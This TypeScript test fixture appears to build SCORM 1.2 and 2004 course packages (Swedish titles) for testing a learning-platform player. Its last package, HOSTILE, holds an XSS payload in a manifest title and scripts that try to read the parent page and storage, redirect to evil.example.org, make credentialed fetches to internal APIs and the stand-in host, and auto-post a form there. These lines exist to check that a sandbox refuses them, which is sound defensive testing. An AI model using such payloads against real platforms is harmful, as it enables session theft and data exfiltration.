import { manifest12, manifest2004, zipped } from './packages';

/** Finds the API as the standard's own example does, from the frame around: RTE 1.2, 3.3.6.1, and RTE 2004, 3.3.2. */
const FINDS = (name: string): string => `
  function scan(win) { var tries = 0; while (win['${name}'] == null && win.parent != null && win.parent != win) { if (++tries > 500) return null; win = win.parent; } return win['${name}']; }
  var api = (window.parent && window.parent != window ? scan(window.parent) : null) || (window.opener ? scan(window.opener) : null) || scan(window);
  function show(text) { document.getElementById('said').textContent = text; }`;

const page = (title: string, script: string, body = ''): string =>
  `<!DOCTYPE html>\n<html lang="sv"><head><title>${title}</title><meta charset="utf-8"><link rel="stylesheet" href="style.css"><script src="lib/shared.js"></script></head>
<body><h1>${title}</h1><p id="said"></p>${body}<script>${script}</script></body></html>`;

const shared = { 'style.css': 'body { font: 18px sans-serif; margin: 24px } button { font: inherit; padding: 12px 20px }', 'lib/shared.js': 'window.sharedIsHere = true;' };

/** SCORM 1.2: two pages, of which the first begins the session and the second goes on with it, and ends it when one is ready. */
export const TWO_PAGES = zipped({
  'imsmanifest.xml': manifest12({ title: 'Bemötande – övning', items: [{ title: 'Bemötande', href: 'one.html', inside: '<adlcp:masteryscore>70</adlcp:masteryscore>' }] }),
  'one.html': page(
    'Första sidan',
    `${FINDS('API')}
    localStorage.setItem('a', 'b'); document.cookie = 'c=d';
    show([sharedIsHere, api.LMSInitialize(''), api.LMSGetValue('cmi.core.entry'), api.LMSGetValue('cmi.core.lesson_location'), api.LMSGetValue('cmi.student_data.mastery_score'), localStorage.getItem('a'), document.cookie].join(' | '));
    if (api.LMSGetValue('cmi.core.lesson_location') === '2') location.href = 'two.html';`,
    `<button onclick="api.LMSSetValue('cmi.core.lesson_location', '2'); api.LMSSetValue('cmi.suspend_data', 'åäö \\ud83d'); show(api.LMSCommit('')); location.href = 'two.html'">Vidare</button>`,
  ),
  'two.html': page(
    'Andra sidan',
    `${FINDS('API')}
    show([api.LMSGetValue('cmi.core.lesson_location'), api.LMSGetValue('cmi.core.entry'), api.LMSGetValue('cmi.suspend_data')].join(' | '));`,
    `<button onclick="api.LMSSetValue('cmi.suspend_data', 'bara skrivet'); show('skrivet')">Skriv</button> <button onclick="api.LMSSetValue('cmi.core.score.raw', '90'); api.LMSSetValue('cmi.core.lesson_status', 'passed'); api.LMSSetValue('cmi.core.exit', 'suspend'); show('slut ' + api.LMSFinish(''))">Klar</button>`,
  ),
  ...shared,
});

/** SCORM 2004: one part that reports, and one that is only read. */
export const TWO_PARTS = zipped({
  'imsmanifest.xml': manifest2004({ title: 'Frågor', items: [{ title: 'Fråga', href: 'q/index.html', parameters: '?n=1' }, { title: 'Läs mer', href: 'more.html', reports: false }] }),
  'q/index.html': page(
    'Fråga',
    `${FINDS('API_1484_11')}
    show([api.Initialize(''), api.GetValue('cmi.entry'), api.GetValue('cmi.location'), location.search].join(' | '));`,
    `<button onclick="api.SetValue('cmi.location', 'svar'); api.SetValue('cmi.score.scaled', '0.8'); api.SetValue('cmi.completion_status', 'completed'); api.SetValue('cmi.success_status', 'passed'); show('sparat ' + api.Commit(''))">Svara</button>`,
  ).replace('"style.css"', '"../style.css"').replace('"lib/', '"../lib/'),
  'more.html': page('Läs mer', ''),
  ...shared,
});

/** One that tries what it must not. What came of it, it shows. */
export const HOSTILE = zipped({
  'imsmanifest.xml': manifest12({ title: 'Ofog', items: [{ title: '&lt;img src=x onerror=parent.hacked=1&gt;', href: 'index.html' }] }),
  'index.html': page(
    'Ofog',
    `
    var came = [];
    function tried(name, act) { try { var value = act(); came.push(name + ':' + (value === undefined ? 'nothing' : 'reached')); } catch (error) { came.push(name + ':refused'); } }
    tried('page', function () { return top.document.title; });
    tried('token', function () { return top.localStorage.length; });
    tried('move', function () { top.location = 'https://evil.example.org/'; return undefined; });
    tried('popup', function () { return window.open('/my') || undefined; });
    Promise.all(['/api/v1/me', '/api/v1/centre', '/my', 'https://evil.example.org/x'].map(function (url) {
      return fetch(url, { credentials: 'include' }).then(function () { came.push(url + ':reached'); }, function () { came.push(url + ':refused'); });
    })).then(function () { show(came.join(' ')); });
    function show(text) { document.getElementById('said').textContent = text; }`,
    '<iframe name="inner" src="/my"></iframe><form action="https://evil.example.org/" method="post" target="inner"><input name="a" value="b"></form><script>document.forms[0].submit()</script>',
  ),
  ...shared,
});
